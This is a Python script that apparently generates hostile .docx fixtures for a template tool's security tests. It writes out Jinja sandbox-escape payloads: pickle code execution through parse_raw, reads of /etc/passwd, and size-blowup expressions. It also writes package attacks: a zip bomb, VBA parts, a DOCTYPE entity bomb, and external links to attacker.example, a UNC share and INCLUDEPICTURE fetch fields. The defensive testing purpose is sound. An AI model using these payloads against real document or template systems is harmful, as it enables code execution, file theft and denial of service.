"""Build the hostile Word templates in tests/data/bad_templates/ (run: python tests/make_template_attacks.py).

Every file starts from the shipped templates/docx/return-notice.docx, so it is a real
template a county could send, with one attack added: a Jinja payload in a new first
paragraph, or a change to the package (zip bomb, VBA, external links, DOCTYPE).

The code-execution payloads unpickle a string that runs ``touch formkit-pwned`` (a file
in the current directory); tests run them from an empty folder and assert the marker
never appears. ``ATTACKS`` maps each file to what ``template check`` and render must say.
"""

from __future__ import annotations

import html
import io
import pickle
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
SOURCE = ROOT / "templates" / "docx" / "return-notice.docx"
OUT = ROOT / "tests" / "data" / "bad_templates"
MARKER = "formkit-pwned"


class _Touch:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (f"touch {MARKER}",)


def _pickle_literal() -> str:
    """A protocol-0 pickle (ASCII) that runs ``touch formkit-pwned``, as a Jinja string literal."""
    raw = pickle.dumps(_Touch(), protocol=0).decode("ascii")
    return '"' + raw.replace("\\", "\\\\").replace("\n", "\\n").replace('"', '\\"') + '"'


PICKLE = _pickle_literal()
CALL = f"({PICKLE}, proto='pickle', allow_pickle=True)"

# name → (Jinja source put in the first paragraph, code `template check` gives, code render gives)
JINJA: dict[str, tuple[str, str, str]] = {
    "pickle-attr.docx": (
        '{% set s = student %}{% set x = s|attr("parse_raw") %}{{ x' + CALL + " }}", "unsafe-attr", "template-unsafe"),
    "pickle-direct.docx": ("{{ student.parse_raw" + CALL + " }}", "unsafe-call", "template-unsafe"),
    "pickle-getitem.docx": ("{{ student['parse_raw']" + CALL + " }}", "unsafe-call", "template-unsafe"),
    "pickle-map.docx": (
        "{% set f = [student]|map(attribute='parse_raw')|first %}{{ f" + CALL + " }}", "unsafe-call", "template-unsafe"),
    "parse-file.docx": ("{{ student.parse_file('/etc/passwd') }}", "unsafe-call", "template-unsafe"),
    "model-validate-json.docx": ("{{ student.model_validate_json('{}') }}", "unsafe-call", "template-unsafe"),
    "dunder-class.docx": ("{{ student.__class__.__mro__ }}", "unsafe-attr", "template-unsafe"),
    "include.docx": ("{% include '/etc/passwd' %}", "unsafe-include", "template-unsafe"),
    "import.docx": ("{% import 'x.docx' as x %}", "unsafe-include", "template-unsafe"),
    "extends.docx": ("{% extends 'x.docx' %}", "unsafe-include", "template-unsafe"),
    "macro.docx": ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "unsafe-macro", "template-unsafe"),
    "autoescape-off.docx": ("{% autoescape false %}{{ student.name }}{% endautoescape %}", "unsafe-autoescape",
                            "template-unsafe"),
    "center-huge.docx": ("{{ 'a'|center(200000000) }}", "unsafe-size", "template-unsafe"),
    "ljust-huge.docx": ("{{ 'a'.ljust(500000000) }}", "unsafe-call", "template-unsafe"),
    "replace-huge.docx": ("{{ ('a' * 50000)|replace('a', 'a' * 50000) }}", "", "template-unsafe"),
    "concat-doubling.docx": (
        "{% set ns = namespace(s='a' * 50000) %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}"
        "{{ ns.s|length }}", "", "template-unsafe"),
    "plus-doubling.docx": (
        "{% set ns = namespace(s='a' * 50000) %}{% for i in range(40) %}{% set ns.s = ns.s + ns.s %}{% endfor %}"
        "{{ ns.s|length }}", "", "template-unsafe"),
    "nested-lists.docx": (
        "{% set s = 'a' * 50000 %}{% set l = [s, s, s, s, s, s, s, s, s, s] %}"
        + "{% set l = [l, l, l, l, l, l, l, l, l, l] %}" * 6 + "{{ l }}", "", "template-unsafe"),
    "format-width.docx": ("{{ '%900000000s'|format('a') }}", "unsafe-size", "template-unsafe"),
    "percent-width.docx": ("{{ '%900000000s' % 'a' }}", "unsafe-size", "template-unsafe"),
    "center-computed.docx": ("{% set n = 10 ** 8 * 3 %}{{ 'a'|center(n) }}", "", "template-unsafe"),
    "int-squaring.docx": (
        "{% set ns = namespace(n=10) %}{% for i in range(40) %}{% set ns.n = ns.n * ns.n %}{% endfor %}{{ ns.n }}",
        "", "template-unsafe"),
    "wordwrap-huge.docx": ("{{ ('a b ' * 20000)|wordwrap(1, wrapstring='x' * 50000) }}", "", "template-unsafe"),
    "nested-loops.docx": (
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}", "", "template-timeout"),
    "nested-ifs.docx": ("{% if 1 %}" * 200 + "x" + "{% endif %}" * 200, "template-runaway", "template-runaway"),
}

_EXTERNAL_IMAGE = (
    '<Relationship Id="rId901" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
    'Target="http://127.0.0.1:9/formkit-fetch.png" TargetMode="External"/>'
)
_UNC_LINK = (
    "<Relationship Id = 'rId902' Type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink' "
    "Target = '\\\\attacker\\share\\x' TargetMode = 'External' />"
)
_OLE = (
    '<Relationship Id="rId903" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
    'Target="file:///C:/x.xlsx" TargetMode="External"/>'
)
_ATTACHED = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)
_INCLUDEPICTURE = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
    'INCLUDEPICTURE "http://127.0.0.1:9/formkit-fetch.png" \\d </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_SPLIT_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCL</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">UDEPICTURE "http://127.0.0.1:9/formkit-fetch.png"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
# Only rendering assembles the instruction: the static text reads "PICTURE … INCLUDE".
_LOOP_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{% for i in range(2) %}<w:r><w:instrText xml:space="preserve">'
    '{% if i %}PICTURE "http://127.0.0.1:9/formkit-fetch.png"{% else %} INCLUDE{% endif %}</w:instrText></w:r>'
    '{% endfor %}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
# The element name itself is assembled by a tag: no instrText in the source at all.
_TAGNAME_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:{{ "instr" }}Text xml:space="preserve"> INCLUDEPICTURE '
    '"http://127.0.0.1:9/formkit-fetch.png"</w:{{ "instr" }}Text></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_DOCTYPE = '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'

# name → code both `template check` and render give
PACKAGE: dict[str, str] = {
    "zip-bomb.docx": "template-too-large",
    "macro.docm.docx": "template-macro",
    "vba-only.docx": "template-macro",
    "external-image.docx": "template-external",
    "external-unc-link.docx": "template-external",
    "external-ole.docx": "template-external",
    "attached-template.docx": "template-external",
    "includepicture.docx": "template-external",
    "includepicture-split.docx": "template-external",
    "doctype.docx": "template-hostile",
}

ATTACKS: dict[str, tuple[str, str]] = {
    **{name: (check, render) for name, (_, check, render) in JINJA.items()},
    **{name: (code, code) for name, code in PACKAGE.items()},
    "includepicture-loop.docx": ("", "template-external"),
    "includepicture-tagname.docx": ("", "template-external"),
}
"""Every file → (code `template check` reports, or "" when only render can tell; code render raises)."""


def _members() -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(SOURCE) as z:
        return [(info, z.read(info)) for info in z.infolist()]


def _write(name: str, members: list[tuple[zipfile.ZipInfo, bytes]], extra: tuple[tuple[str, bytes], ...] = ()) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info, data in members:
            out.writestr(info, data)
        for member, data in extra:
            out.writestr(member, data)
    (OUT / name).write_bytes(buf.getvalue())


def _edit(members: list[tuple[zipfile.ZipInfo, bytes]], part: str, change: object) -> list[tuple[zipfile.ZipInfo, bytes]]:
    assert callable(change)
    done = [(info, change(data.decode("utf-8")).encode("utf-8") if info.filename == part else data)
            for info, data in members]
    assert any(info.filename == part for info, _ in members), part
    return done


def _first_paragraph(text: str) -> object:
    paragraph = f'<w:p><w:r><w:t xml:space="preserve">{html.escape(text, quote=False)}</w:t></w:r></w:p>'
    return lambda xml: xml.replace("<w:body>", "<w:body>" + paragraph, 1)


def _add_rel(rel: str) -> object:
    return lambda xml: xml.replace("</Relationships>", rel + "</Relationships>", 1)


def _zip_bomb(members: list[tuple[zipfile.ZipInfo, bytes]]) -> None:
    """About 1 MB on disk, 1 GiB of zeros once inflated, declared honestly in the directory."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info, data in members:
            out.writestr(info, data)
        chunk = bytes(1024 * 1024)
        with out.open("word/media/image1.png", "w", force_zip64=True) as handle:
            for _ in range(1024):
                handle.write(chunk)
    (OUT / "zip-bomb.docx").write_bytes(buf.getvalue())


def build() -> list[Path]:
    OUT.mkdir(parents=True, exist_ok=True)
    for old in OUT.glob("*.docx"):
        old.unlink()
    base = _members()
    for name, (source, _, _) in JINJA.items():
        _write(name, _edit(base, "word/document.xml", _first_paragraph(source)))
    _zip_bomb(base)
    macro_types = _edit(base, "[Content_Types].xml", lambda xml: xml.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml").replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'))
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # an OLE compound-file header, as Word writes it
    _write("macro.docm.docx", macro_types, (("word/vbaProject.bin", vba),))
    _write("vba-only.docx", base, (("word/vbaProject.bin", vba),))
    rels = "word/_rels/document.xml.rels"
    _write("external-image.docx", _edit(base, rels, _add_rel(_EXTERNAL_IMAGE)))
    _write("external-unc-link.docx", _edit(base, rels, _add_rel(_UNC_LINK)))
    _write("external-ole.docx", _edit(base, rels, _add_rel(_OLE)))
    _write("attached-template.docx", base, (("word/_rels/settings.xml.rels", _ATTACHED.encode()),))
    _write("includepicture.docx", _edit(base, "word/document.xml",
                                        lambda xml: xml.replace("<w:body>", "<w:body>" + _INCLUDEPICTURE, 1)))
    for name, field in (("includepicture-split.docx", _SPLIT_FIELD), ("includepicture-loop.docx", _LOOP_FIELD),
                        ("includepicture-tagname.docx", _TAGNAME_FIELD)):
        _write(name, _edit(base, "word/document.xml", lambda xml, f=field: xml.replace("<w:body>", "<w:body>" + f, 1)))
    _write("doctype.docx", _edit(base, "word/document.xml", lambda xml: xml.replace("?>", "?>" + _DOCTYPE, 1)))
    return sorted(OUT.iterdir())


if __name__ == "__main__":
    for path in build():
        print(f"{path.relative_to(ROOT)}  {path.stat().st_size:,} bytes")
